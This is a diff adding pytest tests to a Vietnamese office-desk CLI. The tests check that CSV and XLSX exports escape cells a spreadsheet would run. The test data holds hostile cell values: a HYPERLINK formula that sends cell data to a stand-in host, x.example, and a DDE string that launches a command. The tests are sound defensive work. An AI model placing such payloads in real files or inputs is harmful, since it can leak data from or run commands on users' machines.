@@ -242,3 +242,57 @@ def test_digitize_over_the_file_size_limit_says_so_and_leaves_nothing(
     assert result.returncode == 2, result.stderr
     assert "Không lưu được bản sao tệp 'ban-quet.pdf'" in result.stderr
     assert [p for p in (desk_db.parent / "attachments").rglob("*") if p.is_file()] == []
+
+
+# ------------------------------------------------------- 4. formula injection
+
+HOSTILE_CELLS = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+
+
+def test_list_csv_escapes_cells_that_a_spreadsheet_would_run(desk_db: Path, capsys) -> None:
+    import csv
+    import io
+
+    name, address, _ = HOSTILE_CELLS
+    code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
+                       "--name", name, "--address", address, "--phone", "-0912 345 678",
+                       "--received", "2024-04-26T09:00")  # fmt: skip
+    assert code != 0  # the phone is refused: nothing written
+    code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
+                       "--name", name, "--address", address, "--received",
+                       "2024-04-26T09:00")  # fmt: skip
+    assert code == 0, err
+    code, out, err = cli(capsys, "list", "--all", "--format", "csv", "--db", str(desk_db))
+    assert code == 0, err
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert len(rows) == 1
+    numbers = {k for k, v in rows[0].items() if v.lstrip("-").isdigit()}  # a number is a number
+    cells = [v for k, v in rows[0].items() if v and k not in numbers]
+    assert not [v for v in cells if v[0] in "=+-@\t\r"]
+    assert rows[0]["applicant"] == "'" + name
+    code, out, _ = cli(capsys, "list", "--all", "--format", "json", "--db", str(desk_db))
+    import json
+
+    assert json.loads(out)[0]["applicant"] == name  # the data is as typed: only the cell is escaped
+
+
+def test_kstt_xlsx_has_no_formula_but_its_own_totals(desk_db: Path, tmp_path: Path, capsys) -> None:
+    import openpyxl
+
+    place, head, _ = HOSTILE_CELLS
+    code, _, err = cli(capsys, "unit", "--db", str(desk_db), "--place", place,
+                       "--head-name", head)  # fmt: skip
+    assert code == 0, err
+    code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
+                       "--name", "Trần Văn Cường", "--received", "2024-04-26T09:00")  # fmt: skip
+    assert code == 0, err
+    out = tmp_path / "bieu06.xlsx"
+    code, _, err = cli(capsys, "report", "kstt", "--from", "2024-04-01", "--to", "2024-04-30",
+                       "--format", "xlsx", "--out", str(out), "--db", str(desk_db))  # fmt: skip
+    assert code == 0, err
+    sheet = openpyxl.load_workbook(out).active
+    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas and all(str(f).startswith("=SUM(") for f in formulas)
+    texts = [str(c.value) for row in sheet.iter_rows() for c in row if c.data_type == "s"]
+    assert any(t.startswith("'" + place) for t in texts)
+    assert "'" + head in texts
